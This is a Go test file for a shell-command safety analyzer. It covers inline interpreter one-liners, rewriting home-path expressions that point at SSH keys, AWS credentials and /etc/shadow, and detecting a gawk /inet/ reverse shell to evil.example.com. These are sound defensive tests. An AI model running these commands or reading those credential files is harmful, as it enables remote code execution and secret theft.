package hardline

import (
	"testing"

	"github.com/stretchr/testify/assert"
)

// TestInlineCodeOnlyAsks checks that inline code whose tree deletions and
// programs are harmless only asks, as all inline code does: a deletion in
// the working folder, a home expression that deletes nothing, a literal ~
// the call does not expand, a program expect spawns.
func TestInlineCodeOnlyAsks(t *testing.T) {
	a := testAnalyzer(t)
	for _, cmd := range []string{
		`python3 -c "import shutil; shutil.rmtree('build')"`,
		`node -e "require('fs').rmSync('dist', {recursive: true, force: true})"`,
		`python3 -c "import os; print(os.path.expanduser('~'))"`,
		`ruby -e 'puts Dir.home'`,
		`expect -c 'spawn ssh -o BatchMode=yes host true; expect eof'`,
		`python3 -c "import shutil; shutil.rmtree('~tmp')"`,
		`ruby -rfileutils -e 'FileUtils.rm_rf("~")'`,
		`python3 -c "open('out.txt','w').write('x')"`,
		`python3 -c "print(open('/etc/hostname').read())"`,
		`ruby -e 'File.open("/home/dev/.bashrc") { |f| puts f.read }'`,
		`node -e "require('fs').writeFileSync('dist/x.json', '{}')"`,
		`perl -e 'open(F, "</home/dev/.bashrc"); print <F>'`,
		`python3 -c "open('~/.bashrc', 'w').write('x')"`,
		`osascript -e 'display dialog "restart the build?"'`,
		`python3 -c 'print("shutdown in progress")'`,
		`python3 -c 'print("reminder: restart the event loop")'`,
		`python3 -c "import base64,os;os.system(base64.b64decode('bHMgLWxh').decode())"`,
		`perl -e 'system(pack("H*","6c73202d6c61"))'`,
		`python3 -c "import base64,os;os.system(base64.b64decode('not base64!').decode())"`,
		`osascript -e 'tell application "Finder" to get name of every window'`,
	} {
		res := a.Command(cmd, testEnv())
		w, ok := res.Worst()
		if !ok || w.Severity != Ask || w.Rule != ruleInlineInterp {
			t.Errorf("%s: worst finding %+v, want only %s (ask); findings %+v", cmd, w, ruleInlineInterp, res.Findings)
		}
	}
}

// TestFoldHomePaths checks that the home paths code builds are rewritten
// as the literals they name, in each language's way of building them, and
// that code building none is left as it is.
func TestFoldHomePaths(t *testing.T) {
	r := &run{a: testAnalyzer(t)}
	for _, tc := range []struct{ code, want string }{
		{`open(os.path.join(os.path.expanduser("~"), ".ssh", "id_rsa"))`, `open("/home/dev/.ssh/id_rsa")`},
		{`open(os.path.join(os.environ["HOME"], ".ssh/id_rsa"))`, `open("/home/dev/.ssh/id_rsa")`},
		{`(Path.home() / ".ssh" / "id_rsa").read_text()`, `("/home/dev/.ssh/id_rsa").read_text()`},
		{`Path.home().joinpath(".aws", "credentials")`, `"/home/dev/.aws/credentials"`},
		{`open(f"{Path.home()}/.ssh/id_rsa")`, `open(f"/home/dev/.ssh/id_rsa")`},
		{`File.read("#{Dir.home}/.netrc")`, `File.read("/home/dev/.netrc")`},
		{`open F, "$ENV{HOME}/.netrc"`, `open F, "/home/dev/.netrc"`},
		{"readFileSync(`${os.homedir()}/.netrc`)", "readFileSync(`/home/dev/.netrc`)"},
		{`Dir.home + "/.bashrc"`, `"/home/dev/.bashrc"`},
		{`getenv("HOME") . "/.netrc"`, `"/home/dev/.netrc"`},
		{`os.getenv("HOME") .. "/.netrc"`, `"/home/dev/.netrc"`},
		{`p.join(p.expanduser("~"), "x")`, `"/home/dev/x"`},
		{`os.path.join(os.path.expanduser("~"), "/etc/shadow")`, `"/etc/shadow"`},
		{`os.path.join(Path.home(), "a", 'b"c')`, `"/home/dev/a/b\"c"`},
		{`print("home is " + "x")`, `print("home is " + "x")`}, // no home expression: left alone
		{`print("Path.home()")`, `print("Path.home()")`},       // a literal spelling one
		{`rmtree($ENV{HOME})`, `rmtree("/home/dev")`},
	} {
		if got := r.foldHomePaths(tc.code); got != tc.want {
			t.Errorf("foldHomePaths(%s) = %s, want %s", tc.code, got, tc.want)
		}
	}
}

// TestAwkNetCommandRunsTheVariableRead: a gawk program that talks over
// /inet/ runs what the peer sends only when the variable it reads from
// the connection is the one it runs as a command.
func TestAwkNetCommandRunsTheVariableRead(t *testing.T) {
	assert.True(t, awkNetCommand(`BEGIN{s="/inet/tcp/0/evil.example.com/80"; s |& getline c; c | getline}`))
	assert.False(t, awkNetCommand(`BEGIN{s="/inet/tcp/0/example.com/80"; print "GET /" |& s; s |& getline line; cmd="date"; cmd | getline d}`))
}
